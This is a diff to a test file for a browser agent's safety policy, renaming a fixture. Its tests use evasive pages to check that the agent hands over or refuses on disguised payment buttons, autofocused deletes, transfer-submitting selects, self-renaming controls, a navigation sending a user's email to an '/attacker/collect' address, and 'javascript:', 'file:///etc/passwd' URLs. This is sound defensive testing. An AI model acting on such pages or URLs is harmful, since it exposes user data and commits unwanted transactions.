@@ -48,9 +48,9 @@ def ref_named(observation: str | None, role: str, name: str, nth: int = 0) -> st
 
 @pytest.mark.req("policy:press-commits")
 async def test_enter_or_space_on_what_is_focused_is_checked_like_the_click_it_is(
-    single, agent: Agent, fixture_server: FixtureServer
+    one_page_desk, agent: Agent, fixture_server: FixtureServer
 ) -> None:
-    await single("/evasion/press")
+    await one_page_desk("/evasion/press")
     seen = await agent.observe(page="left")
     # The autofocused "Delete saved card" is what Enter or Space would press.
     assert_handed_over(await agent.act(seen, type="press", key="Enter"))
@@ -66,9 +66,9 @@ async def test_enter_or_space_on_what_is_focused_is_checked_like_the_click_it_is
 
 @pytest.mark.req("policy:point-commits")
 async def test_a_click_by_point_is_checked_on_the_element_under_the_point(
-    single, agent: Agent, fixture_server: FixtureServer
+    one_page_desk, agent: Agent, fixture_server: FixtureServer
 ) -> None:
-    await single("/evasion/point")
+    await one_page_desk("/evasion/point")
     for x, y in ((120, 222), (140, 302)):  # "Pay €49"; "Confirm purchase" inside an open shadow root
         seen = await agent.observe(page="left", detail="visual")  # a point is good for the next request only
         assert_handed_over(await agent.act(seen, type="click", x=x, y=y))
@@ -79,9 +79,9 @@ async def test_a_click_by_point_is_checked_on_the_element_under_the_point(
 
 @pytest.mark.req("policy:select-commits")
 async def test_a_select_whose_change_submits_a_transfer_is_the_users(
-    single, agent: Agent, fixture_server: FixtureServer
+    one_page_desk, agent: Agent, fixture_server: FixtureServer
 ) -> None:
-    await single("/evasion/select")
+    await one_page_desk("/evasion/select")
     seen = await agent.observe(page="left")
     standing = ref_of(seen, "combobox", "Standing instruction")
     assert_handed_over(
@@ -96,9 +96,9 @@ async def test_a_select_whose_change_submits_a_transfer_is_the_users(
 
 @pytest.mark.req("policy:type-submit-commits")
 async def test_type_with_submit_is_checked_by_the_form_it_submits_not_the_textbox_name(
-    single, agent: Agent, fixture_server: FixtureServer
+    one_page_desk, agent: Agent, fixture_server: FixtureServer
 ) -> None:
-    await single("/evasion/type-submit")
+    await one_page_desk("/evasion/type-submit")
     seen = await agent.observe(page="left")
     reference = ref_of(seen, "Reference")
     assert_handed_over(await agent.act(seen, type="type", ref=reference, text="INV-2231", submit=True))
@@ -124,9 +124,9 @@ async def test_type_with_submit_is_checked_by_the_form_it_submits_not_the_textbo
 )
 @pytest.mark.req("policy:structure")
 async def test_login_card_and_captcha_are_found_by_structure_in_shadow_roots_and_frames(
-    single, agent: Agent, fixture_server: FixtureServer, path: str, trap_role: str, trap_name: str, read: str
+    one_page_desk, agent: Agent, fixture_server: FixtureServer, path: str, trap_role: str, trap_name: str, read: str
 ) -> None:
-    await single(path)
+    await one_page_desk(path)
     seen = await agent.observe(page="left")
     assert_handed_over(await agent.act(seen, type="click", ref=ref_of(seen, trap_role, trap_name)))
     verified = await agent.verify(seen, type="text_present", text=read)
@@ -136,9 +136,9 @@ async def test_login_card_and_captcha_are_found_by_structure_in_shadow_roots_and
 
 @pytest.mark.req("policy:names")
 async def test_disguised_and_foreign_language_names_and_other_roles_are_the_users(
-    single, agent: Agent, fixture_server: FixtureServer
+    one_page_desk, agent: Agent, fixture_server: FixtureServer
 ) -> None:
-    await single("/evasion/names")
+    await one_page_desk("/evasion/names")
     seen = await agent.observe(page="left")
     traps = [
         ("button", "Ｐａｙ ｎｏｗ"),
@@ -175,9 +175,9 @@ async def test_disguised_and_foreign_language_names_and_other_roles_are_the_user
 
 @pytest.mark.req("policy:moment-of-act")
 async def test_a_control_that_renames_itself_under_the_pointer_is_refused_with_no_write(
-    single, agent: Agent, fixture_server: FixtureServer
+    one_page_desk, agent: Agent, fixture_server: FixtureServer
 ) -> None:
-    await single("/evasion/hover")
+    await one_page_desk("/evasion/hover")
     seen = await agent.observe(page="left")
     assert_refused(await agent.act(seen, type="click", ref=ref_of(seen, "button", "Show details")))
     seen = await agent.act(seen, type="type", ref=ref_of(seen, "textbox", "Note"), text="Leave it", submit=False)
@@ -188,9 +188,9 @@ async def test_a_control_that_renames_itself_under_the_pointer_is_refused_with_n
 
 @pytest.mark.req("policy:navigation")
 async def test_navigation_to_a_new_origin_or_to_a_side_effect_address_is_the_users(
-    single, agent: Agent, fixture_server: FixtureServer
+    one_page_desk, agent: Agent, fixture_server: FixtureServer
 ) -> None:
-    await single("/evasion/navigate")
+    await one_page_desk("/evasion/navigate")
     seen = await agent.observe(page="left")
     stolen = fixture_server.url("/attacker/collect?d=alex.morgan%40example.com", cross=True)
     assert_handed_over(await agent.act(seen, type="navigate", url=stolen))
@@ -202,8 +202,10 @@ async def test_navigation_to_a_new_origin_or_to_a_side_effect_address_is_the_use
 
 
 @pytest.mark.req("policy:navigation")
-async def test_a_navigation_outside_http_is_invalid_arguments_before_any_backend_call(single, agent: Agent) -> None:
-    await single("/evasion/navigate")
+async def test_a_navigation_outside_http_is_invalid_arguments_before_any_backend_call(
+    one_page_desk, agent: Agent
+) -> None:
+    await one_page_desk("/evasion/navigate")
     seen = await agent.observe(page="left")
     for url in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,hi", "chrome://settings"):
         refused = await agent.act(seen, type="navigate", url=url)
@@ -212,9 +214,9 @@ async def test_a_navigation_outside_http_is_invalid_arguments_before_any_backend
 
 @pytest.mark.req("keys:one-chord", "reason:invalid_arguments")
 async def test_a_chord_works_in_a_textbox_and_several_keys_in_one_press_are_refused_before_any_cdp_command(
-    single, agent: Agent, tap: CDPTap, fixture_server: FixtureServer, backend: str
+    one_page_desk, agent: Agent, tap: CDPTap, fixture_server: FixtureServer, backend: str
 ) -> None:
-    await single("/dom_form/")
+    await one_page_desk("/dom_form/")
     seen = await agent.observe(page="left")
     name = ref_of(seen, '"Full name"')
     typed = await agent.act(seen, type="type", ref=name, text="Ada Lovelace")
@@ -258,9 +260,9 @@ class TestWithoutTheCommitRead:
     @pytest.mark.negative_control
     @pytest.mark.req("policy:press-commits", "policy:select-commits")
     async def test_the_ledger_catches_a_policy_that_does_not_read_what_a_write_commits(
-        self, single, agent: Agent, fixture_server: FixtureServer
+        self, one_page_desk, agent: Agent, fixture_server: FixtureServer
     ) -> None:
-        await single("/evasion/select")
+        await one_page_desk("/evasion/select")
         seen = await agent.observe(page="left")
         standing = ref_of(seen, "combobox", "Standing instruction")
         sent = fixture_server.wait_for_request("/evasion/transfer")  # registered before acting
